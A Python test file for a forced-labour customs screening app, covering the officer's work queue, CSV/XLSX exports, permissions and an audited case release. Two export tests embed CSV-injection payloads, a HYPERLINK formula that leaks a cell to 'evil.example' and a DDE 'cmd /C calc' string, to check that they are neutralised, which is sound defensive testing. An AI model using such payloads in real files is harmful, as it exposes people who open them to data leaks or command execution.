"""The officer's work queue (API and page) and the list pages as CSV and XLSX."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient

from flscreen.policy.tables import cases as cases_table
from flscreen.store import Store
from tests.api.seed import bearer, screened_client

from .test_pages import form, sign_in


@pytest.fixture
def api(store: Store, db_url: str, tmp_path: Path) -> Iterator[TestClient]:
    """An officer's API client over the screened sample package (six open cases)."""
    with screened_client(store, db_url, tmp_path) as c:
        yield c


def _held_days_ago(store: Store, case: str, days: int) -> None:
    """Goods of ``case`` held ``days`` ago (as if screened then)."""
    when = (datetime.now(UTC) - timedelta(days=days)).isoformat().replace("+00:00", "Z")
    with store.begin() as conn:
        conn.execute(
            cases_table.update()
            .where(cases_table.c.case_id == case)
            .values(detained_at=when, opened_at=when)
        )


def _browser(api: TestClient) -> TestClient:
    """An officer's browser on the same app: signed in by the form, session cookie only."""
    browser = TestClient(api.app, base_url="https://testserver")
    browser.csrf = sign_in(browser, "officer.li")  # type: ignore[attr-defined]
    return browser


def _csv(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_queue_puts_the_overdue_detention_first_with_its_clock(
    api: TestClient, store: Store
) -> None:
    before = api.get("/cases/queue").json()
    assert before["total"] == 6 and before["overdue"] == 0
    detained = [r for r in before["cases"] if r["verdict"] == "detain"]
    late = detained[-1]["case"]  # the last of the held ones: it must jump the queue
    _held_days_ago(store, late, 45)
    q = api.get("/cases/queue").json()
    first = q["cases"][0]
    assert first["case"] == late and first["overdue"] is True
    assert first["limit_days"] == 30  # uflpa's detention.limit_days
    assert 44.9 <= first["detained_days"] <= 45.1 and first["age_days"] >= 44.9
    assert q["overdue"] == 1 and not any(r["overdue"] for r in q["cases"][1:])
    # Held goods next (longest held first), then cases whose goods are not held.
    held = [r["detained_days"] is not None for r in q["cases"]]
    assert held == sorted(held, reverse=True)


def test_queue_filters_by_state_and_assignee_and_reassign_is_audited(api: TestClient) -> None:
    cases = api.get("/cases/queue").json()["cases"]
    one, two = cases[0]["case"], cases[1]["case"]
    assert api.post(f"/cases/{one}/assign", json={"to": "officer.ng"}).status_code == 200
    assert api.post(f"/cases/{two}/assign", json={"to": "officer.ng"}).status_code == 200
    r = api.post(f"/cases/{two}/assign", json={"to": "officer.li", "note": "leave"})
    assert r.status_code == 200 and r.json()["assignee"] == "officer.li"
    mine = api.get("/cases/queue", params={"assignee": "officer.ng"}).json()["cases"]
    assert [c["case"] for c in mine] == [one]
    nobody = api.get("/cases/queue", params={"unassigned": "true"}).json()["cases"]
    assert {c["case"] for c in nobody} == {c["case"] for c in cases} - {one, two}
    moved = api.post(f"/cases/{one}/transition", json={"to": "under_review", "reason": "docs"})
    assert moved.status_code == 200
    reviewing = api.get("/cases/queue", params={"state": "under_review"}).json()["cases"]
    assert [c["case"] for c in reviewing] == [one]
    # Every assignment is in the audit trail, by the signed-in user, from whom to whom.
    log = api.get("/audit/log", params={"subject": two}).json()
    records = log["records"] if isinstance(log, dict) else log
    assigns = [r for r in records if r["kind"] == "case.assign"]
    moves = [(a["payload"]["from"], a["payload"]["to"], a["actor"]) for a in assigns]
    assert sorted(moves, key=str) == sorted(
        [(None, "officer.ng", "officer.li"), ("officer.ng", "officer.li", "officer.li")], key=str
    )


def test_queue_refuses_an_unknown_state_naming_the_api_parameter(api: TestClient) -> None:
    for url in ("/cases/queue", "/cases"):
        r = api.get(url, params={"state": "closed"})
        assert r.status_code == 422, url
        (problem,) = r.json()["problems"]
        assert problem["field"] == "state" and problem["source"] == "query"
        assert "--" not in r.json()["message"]  # no CLI flag in an API answer
        assert "under_review" in problem["message"]


def test_importer_queue_holds_only_its_own_cases(api: TestClient) -> None:
    everyone = {c["shipment"] for c in api.get("/cases/queue").json()["cases"]}
    own = api.get("/cases/queue", headers=bearer(api, "northwind")).json()["cases"]
    assert "S-2001" in everyone
    assert own and {c["shipment"] for c in own} == everyone - {"S-2001"}
    sheet = api.get("/ui/queue.csv", headers=bearer(api, "southern"))
    assert [r["shipment"] for r in _csv(sheet.content)] == ["S-2001"]


def test_queue_page_shows_the_clock_and_links_each_case(api: TestClient, store: Store) -> None:
    late = api.get("/cases/queue").json()["cases"][-1]["case"]
    _held_days_ago(store, late, 40)
    browser = _browser(api)
    page = browser.get("/ui/queue")
    assert page.status_code == 200
    html = page.text
    body = html[html.index("<tbody>") :]
    assert body.index(f'href="/ui/cases/{late}"') == body.index('href="/ui/cases/')  # first
    assert "1 overdue" in html and 'class="overdue"' in html
    assert 'href="/ui/queue"' in browser.get("/ui/").text
    # From the queue to the case, and the case page's assign form puts it on a desk.
    assert f"/ui/cases/{late}/assign" in browser.get(f"/ui/cases/{late}").text
    r = browser.post(
        f"/ui/cases/{late}/assign", data=form(browser, to="officer.ng"), follow_redirects=False
    )
    assert r.status_code == 303
    mine = browser.get("/ui/queue.json?assignee=officer.ng").json()
    assert [c["case"] for c in mine["cases"]] == [late]


@pytest.mark.parametrize("url", ["/ui/shipments", "/ui/cases", "/ui/queue", "/ui/audit"])
def test_every_list_page_downloads_as_csv_and_xlsx(api: TestClient, url: str) -> None:
    page = api.get(url)
    data = api.get(url + ".json").json()
    key = {"/ui/shipments": "shipments", "/ui/audit": "records"}.get(url, "cases")
    assert f'href="{url}.csv"' in page.text and f'href="{url}.xlsx"' in page.text
    as_csv = api.get(url + ".csv")
    assert as_csv.status_code == 200
    assert as_csv.headers["content-type"].startswith("text/csv")
    assert "attachment" in as_csv.headers["content-disposition"]
    rows = _csv(as_csv.content)
    assert len(rows) == len(data[key]) > 0
    as_xlsx = api.get(url + ".xlsx")
    assert as_xlsx.headers["content-type"].startswith("application/vnd.openxmlformats")
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx.content)).active
    assert sheet is not None
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == list(rows[0].keys())
    assert len(values) == len(rows) + 1
    # The same query parameters filter the download as the page.
    if url == "/ui/shipments":
        detained = _csv(api.get(url + ".csv?verdict=detain").content)
        assert detained and {r["verdict"] for r in detained} == {"detain"}
        assert {r["shipment"] for r in detained} < {r["shipment"] for r in rows}


def test_exports_neutralise_formula_leading_cells(api: TestClient) -> None:
    case = api.get("/cases/queue").json()["cases"][0]["case"]
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
    assert api.post(f"/cases/{case}/assign", json={"to": evil}).status_code == 200
    rows = _csv(api.get("/ui/queue.csv").content)
    (row,) = [r for r in rows if r["case"] == case]
    assert row["assignee"] == "'" + evil
    sheet = openpyxl.load_workbook(io.BytesIO(api.get("/ui/queue.xlsx").content)).active
    assert sheet is not None
    cells = [c for r in sheet.iter_rows() for c in r if c.value and "HYPERLINK" in str(c.value)]
    assert cells and all(c.data_type == "s" and str(c.value).startswith("'") for c in cells)


def test_batch_page_downloads_its_matches(api: TestClient) -> None:
    browser = _browser(api)
    suppliers = (
        "id,name,country\n"
        "s1,Hoshine Silicon Industry Co. Ltd,CN\n"
        "s2,=cmd|' /C calc'!A0,US\n"
        "s3,Pacific Blue Textiles,VN\n"
    )
    for fmt in ("csv", "xlsx"):
        r = browser.post(
            "/ui/batch",
            data=form(browser, format=fmt),
            files={"file": ("suppliers.csv", suppliers.encode(), "text/csv")},
        )
        assert r.status_code == 200, r.text
        assert r.headers["content-disposition"] == f'attachment; filename="matches.{fmt}"'
        if fmt == "csv":
            rows = {x["id"]: x for x in _csv(r.content)}
            assert rows["s1"]["status"] == "match" and rows["s1"]["list"] == "uflpa"
            assert rows["s2"]["name"].startswith("'=")
            assert rows["s3"]["status"] == "clear"
        else:
            sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
            assert sheet is not None and sheet.max_row == 4
    shown = browser.post(
        "/ui/batch",
        data=form(browser),
        files={"file": ("suppliers.csv", suppliers.encode(), "text/csv")},
    )
    assert shown.headers["content-type"].startswith("text/html") and "Hoshine" in shown.text


def test_exports_keep_the_page_permission(api: TestClient) -> None:
    for url in ("/ui/audit.csv", "/ui/audit.xlsx"):
        assert api.get(url, headers=bearer(api, "analyst")).status_code == 403, url
    assert api.get("/ui/audit.csv", headers=bearer(api, "auditor")).status_code == 200


def test_the_officer_goes_from_the_queue_to_a_release_and_every_step_is_audited(
    api: TestClient,
) -> None:
    """The desk end to end: the first held case in the queue, taken, its evidence attached
    and opened (the bytes that were filed, hash-checked), an applicability finding on
    that evidence, the release; each step in the audit trail, which still verifies."""
    first = api.get("/cases/queue").json()["cases"][0]  # held goods come first
    case_id = first["case"]
    assert first["verdict"] == "detain" and first["detained_days"] is not None

    assert api.post(f"/cases/{case_id}/assign", json={"to": "officer.li"}).status_code == 200
    mill_records = b"Mill: Tashkent Textile; lots 44-51; ginning receipts from Fergana."
    filed = api.post(
        f"/cases/{case_id}/documents",
        data={"kind": "production_record"},
        files=[("file", ("mill-records.txt", mill_records))],
    )
    assert filed.status_code == 201, filed.text
    doc = filed.json()["attached"][0]
    opened = api.get(f"/cases/{case_id}/documents/{doc['id']}")
    assert opened.status_code == 200 and opened.content == mill_records
    assert "attachment" in opened.headers["content-disposition"]

    refused = api.post(f"/cases/{case_id}/transition", json={"to": "released", "reason": "ok"})
    assert refused.status_code == 422  # held goods leave only on a recorded finding
    finding = api.post(
        f"/cases/{case_id}/findings",
        json={
            "kind": "applicability",
            "statement": "Inputs traced to Uzbek mills; no Xinjiang link.",
            "documents": [doc["id"]],
        },
    )
    assert finding.status_code == 201, finding.text
    released = api.post(
        f"/cases/{case_id}/transition", json={"to": "released", "reason": "on the finding"}
    )
    assert released.status_code == 200, released.text
    assert released.json()["state"] == "released"
    assert case_id not in {c["case"] for c in api.get("/cases/queue").json()["cases"]}

    log = api.get("/audit/log", params={"subject": case_id}).json()["records"]
    kinds = [r["kind"] for r in reversed(log)]  # oldest first
    assert kinds.index("case.assign") < kinds.index("case.finding") < kinds.index("case.transition")
    assert {r["actor"] for r in log if r["kind"] != "case.open"} <= {"officer.li"}
    assert api.get("/audit/verify").json()["ok"] is True
